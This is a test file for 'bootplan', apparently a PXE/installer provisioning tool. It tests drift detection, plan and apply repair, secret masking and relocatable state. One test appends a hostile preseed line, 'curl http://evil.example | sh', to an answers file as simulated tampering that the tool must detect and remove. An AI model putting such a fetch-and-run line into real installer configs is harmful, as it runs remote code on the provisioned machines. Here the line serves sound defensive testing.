/**
 * Reality checks as a user runs them: a file changed or deleted outside bootplan is reported by
 * `bootplan drift`, shown by `plan` as a repair with its diff, restored by `apply` (the overwritten bytes
 * kept), and a copy of the stack at another path plans "No changes." against the same state.
 */
import { appendFileSync, cpSync, existsSync, mkdirSync, mkdtempSync, rmSync, readdirSync, readFileSync, statSync, unlinkSync, utimesSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { Ajv2020 } from "ajv/dist/2020.js";
import { validators } from "../../src/util/validators.js";
import { cleanup, REPO, runCli, tempStacks } from "../helpers/stack.js";

const lab = tempStacks();
const copies: string[] = [];
afterEach(() => copies.splice(0).forEach(cleanup));

const ROOT = ".bootplan/root";
const ANSWERS = "http/answers/web02.cfg";
const DB01_PXE = "tftp/pxelinux.cfg/01-52-54-00-12-34-03";
const DEMO_HASH = readFileSync(join(REPO, "stacks/lab/secrets/demo-root-password.hash"), "utf8").trim();

async function applied(): Promise<string> {
  const d = lab();
  const r = await runCli(["apply", d, "--auto-approve"]);
  expect(r.code, r.stderr).toBe(0);
  return d;
}

function at(d: string, rel: string): string {
  return join(d, ROOT, rel);
}

function driftSchema(): (doc: unknown) => boolean {
  const ajv = new Ajv2020({ allErrors: true, strict: false });
  return ajv.compile(JSON.parse(readFileSync(join(REPO, "schemas/drift.schema.json"), "utf8")));
}

describe("bootplan drift, refresh in plan, restore in apply", () => {
  it("finds a tampered and a deleted file, plans their repair with a diff, and apply restores both", async () => {
    const d = await applied();
    expect(readdirSync(at(d, "tftp/pxelinux.cfg"))).toContain("01-52-54-00-12-34-03");
    expect((await runCli(["drift", d])).code).toBe(0);

    appendFileSync(at(d, ANSWERS), "d-i preseed/late_command string curl http://evil.example | sh\n");
    unlinkSync(at(d, DB01_PXE));

    const drift = await runCli(["drift", d, "--no-color"]);
    expect(drift.code).toBe(2);
    expect(drift.stdout).toContain(`~ ${ANSWERS} changed`);
    expect(drift.stdout).toMatch(/^ +\+d-i preseed\/late_command string curl http:\/\/evil\.example \| sh$/m);
    expect(drift.stdout).toContain(`- ${DB01_PXE} missing`);
    expect(drift.stdout).toMatch(/^Drift: 2 resources changed outside bootplan \(1 changed, 1 missing, 0 extra files\)/m);

    const json = JSON.parse((await runCli(["drift", d, "--json"])).stdout);
    const validate = driftSchema();
    expect(validate(json)).toBe(true);
    expect(json.drifted.map((r: { address: string }) => r.address)).toEqual(["system.db01", "system.web02"]);

    const plan = await runCli(["plan", d, "--no-color", "--detailed-exitcode"]);
    expect(plan.code).toBe(2);
    expect(plan.stdout).toContain("~ system.web02 (changed outside bootplan)");
    expect(plan.stdout).toMatch(/^ +-d-i preseed\/late_command string curl http:\/\/evil\.example \| sh$/m);
    expect(plan.stdout).toContain(`+ ${DB01_PXE} missing on disk`);
    expect(plan.stdout).toContain("Plan: 0 to add, 2 to change, 0 to replace, 0 to destroy.");
    const skipped = await runCli(["plan", d, "--refresh=false", "--detailed-exitcode"]);
    expect(skipped.code).toBe(0);
    expect(skipped.stdout).toContain("No changes.");

    const planned = JSON.parse((await runCli(["plan", d, "--json"])).stdout);
    const validatePlan = validators("plan").doc;
    expect(validatePlan(planned), JSON.stringify(validatePlan.errors)).toBe(true);
    expect(planned.changes.find((c: { address: string }) => c.address === "system.db01").files[0]).toMatchObject({ path: DB01_PXE, action: "create", drift: "missing" });
    expect(planned.refreshed).toBe("stat");
    expect(planned.summary.drifted).toBe(2);
    const tampered = readFileSync(at(d, ANSWERS), "utf8");

    const apply = await runCli(["apply", d, "--auto-approve"]);
    expect(apply.code, apply.stderr).toBe(0);
    expect(readFileSync(at(d, ANSWERS), "utf8")).not.toContain("evil.example");
    expect(existsSync(at(d, DB01_PXE))).toBe(true);
    // The bytes someone else wrote are kept, not silently lost.
    const stamps = readdirSync(at(d, ".bootplan-drift"));
    expect(stamps).toHaveLength(1);
    expect(readFileSync(at(d, `.bootplan-drift/${stamps[0]}/${ANSWERS}`), "utf8")).toBe(tampered);
    const after = await runCli(["drift", d]);
    expect(after.code, after.stdout).toBe(0);
    expect(after.stdout).toContain("No drift: 29 recorded resources match what is there.");
  });

  it("repairs a CM artifact edited by hand: the handoff's recorded rendering is rendered again to show the diff", async () => {
    const d = await applied();
    const node = "cm/puppet-prod/nodes/web01.lab.example.yaml";
    const text = readFileSync(at(d, node), "utf8");
    writeFileSync(at(d, node), text.replace("production", "hacked"));
    const plan = await runCli(["plan", d, "--no-color", "--detailed-exitcode"]);
    expect(plan.code).toBe(2);
    expect(plan.stdout).toContain("~ cm.puppet-prod.web01 (changed outside bootplan)");
    expect(plan.stdout).toMatch(/^ +-environment: "?hacked"?$/m);
    expect(plan.stdout).toMatch(/^ +\+environment: "?production"?$/m);
    expect((await runCli(["apply", d, "--auto-approve"])).code).toBe(0);
    expect(readFileSync(at(d, node), "utf8")).toBe(text);
  });

  it("never shows a secret from the file on disk: it is turned back into its marker and masked", async () => {
    const d = await applied();
    const file = at(d, "http/answers/web01.cfg");
    const text = readFileSync(file, "utf8");
    expect(text).toContain(DEMO_HASH);
    writeFileSync(file, text.replace(DEMO_HASH, `${DEMO_HASH}\nd-i passwd/make-user boolean true`));
    for (const args of [["drift", d], ["drift", d, "--json"], ["drift", d, "--markdown"], ["plan", d], ["plan", d, "--json"], ["plan", d, "--markdown"]]) {
      const r = await runCli(args);
      expect(r.stdout).toContain("make-user");
      expect(r.stdout).not.toContain(DEMO_HASH);
    }
  });

  it("masks a secret on disk even after its value was rotated (the line keeps its recorded shape)", async () => {
    const d = await applied();
    writeFileSync(join(d, "secrets/demo-root-password.hash"), "$6$rotated$notthesameatall\n");
    // Next to the password line, so the diff shows it as context.
    writeFileSync(at(d, ANSWERS), readFileSync(at(d, ANSWERS), "utf8").replace("make-user boolean false", "make-user boolean true"));
    for (const [args, line] of [[["drift", d], "+d-i passwd/make-user boolean true"], [["plan", d], "-d-i passwd/make-user boolean true"]] as const) {
      const r = await runCli([...args]);
      expect(r.stdout).toContain(line);
      expect(r.stdout).toContain("(sensitive)");
      expect(r.stdout).not.toContain(DEMO_HASH);
    }
  });

  it("sees a change that kept the file's size and mtime (ctime moves), and --refresh=full hashes everything", async () => {
    const d = await applied();
    const file = at(d, "tftp/grub/grub.cfg-01-52-54-00-12-34-01");
    const before = statSync(file);
    const text = readFileSync(file, "utf8");
    writeFileSync(file, text.replace("timeout", "TIMEOUT"));
    utimesSync(file, before.atime, before.mtime);
    expect(statSync(file).size).toBe(before.size);
    for (const mode of ["true", "full"]) {
      const r = await runCli(["drift", d, `--refresh=${mode}`, "--no-color"]);
      expect(r.code, r.stdout).toBe(2);
      expect(r.stdout).toContain("~ tftp/grub/grub.cfg-01-52-54-00-12-34-01 changed");
    }
  });

  it("reports files no resource recorded in the folders bootplan writes to", async () => {
    const d = await applied();
    writeFileSync(at(d, "tftp/pxelinux.cfg/01-52-54-00-99-99-99"), "DEFAULT install\n");
    const r = await runCli(["drift", d, "--no-color"]);
    expect(r.code).toBe(2);
    expect(r.stdout).toContain("? tftp/pxelinux.cfg/01-52-54-00-99-99-99");
    const md = (await runCli(["drift", d, "--markdown"])).stdout;
    expect(md.startsWith("<!-- bootplan:drift stack=lab -->\n")).toBe(true);
    expect(md).toContain("`tftp/pxelinux.cfg/01-52-54-00-99-99-99`");
  });

  it("fails with exit 1 naming the resource when a file cannot be read back", async () => {
    const d = await applied();
    rmSync(at(d, "http/answers/web01.cfg"));
    mkdirSync(at(d, "http/answers/web01.cfg"));
    for (const cmd of ["drift", "plan"]) {
      const r = await runCli([cmd, d]);
      expect(r.code).toBe(1);
      expect(r.stderr).toMatch(/^Error: system\.web01: reading it back failed: .*not a regular file/);
    }
  });

  it("refuses conflicting output options instead of choosing one", async () => {
    const d = lab();
    for (const cmd of ["plan", "drift"]) {
      const r = await runCli([cmd, d, "--json", "--markdown"]);
      expect(r.code).toBe(1);
      expect(r.stderr).toMatch(/option '--json' cannot be used with option '--markdown'/);
    }
    expect((await runCli(["plan", d, "--json", "--compact"])).code).toBe(1);
    expect((await runCli(["drift", d, "--refresh=false"])).stderr).toMatch(/^Error: bootplan drift always refreshes/);
  });
});

describe("plans that do not depend on where the checkout is", () => {
  it("records no absolute path, and a copy of the stack at another path plans No changes", async () => {
    const d = await applied();
    const state = readFileSync(join(d, ".bootplan/state.json"), "utf8");
    expect(state).not.toContain(d);
    const copy = mkdtempSync(join(tmpdir(), "bootplan-moved-"));
    copies.push(copy);
    cpSync(d, copy, { recursive: true });
    const r = await runCli(["plan", copy, "--detailed-exitcode"]);
    expect(r.stdout).toContain("No changes.");
    expect(r.code).toBe(0);
    expect((await runCli(["drift", copy])).code).toBe(0);
  });

  it("migrates a state that recorded the absolute paths of another checkout, planning no reinstall", async () => {
    const d = await applied();
    const path = join(d, ".bootplan/state.json");
    const doc = JSON.parse(readFileSync(path, "utf8"));
    for (const rec of Object.values(doc.resources) as { outputs: Record<string, unknown> }[]) {
      if (typeof rec.outputs.root === "string") rec.outputs.root = `/srv/old-checkout/stacks/lab/${rec.outputs.root}`;
      for (const k of ["kernel", "initrd"]) {
        const f = rec.outputs[k] as { source?: string } | undefined;
        if (f?.source) f.source = `/srv/old-checkout/stacks/lab/${f.source}`;
      }
    }
    writeFileSync(path, JSON.stringify(doc));
    const r = await runCli(["plan", d, "--detailed-exitcode"]);
    expect(r.stdout).toContain("No changes.");
    expect(r.code).toBe(0);
  });

  it("applies a saved plan from another checkout of the same stack (paths in the plan are relative)", async () => {
    const d = await applied();
    appendFileSync(join(d, "profiles.yaml"), "");
    const edited = readFileSync(join(d, "profiles.yaml"), "utf8").replace("packages: [nginx]", "packages: [nginx, certbot]");
    writeFileSync(join(d, "profiles.yaml"), edited);
    const ws = mkdtempSync(join(tmpdir(), "bootplan-ws-"));
    copies.push(ws);
    cpSync(d, join(ws, "a/stacks/lab"), { recursive: true });
    const prev = process.cwd();
    try {
      process.chdir(join(ws, "a"));
      expect((await runCli(["plan", "stacks/lab", "--out", "reviewed.plan"])).code).toBe(0);
      const saved = readFileSync("reviewed.plan", "utf8");
      expect(saved).not.toContain(ws);
      cpSync(join(ws, "a"), join(ws, "b"), { recursive: true });
      process.chdir(join(ws, "b"));
      const r = await runCli(["apply", "reviewed.plan"]);
      expect(r.code, r.stderr).toBe(0);
      expect(readFileSync("stacks/lab/.bootplan/root/http/answers/web01.cfg", "utf8")).toContain("nginx certbot");
    } finally {
      process.chdir(prev);
    }
  });
});
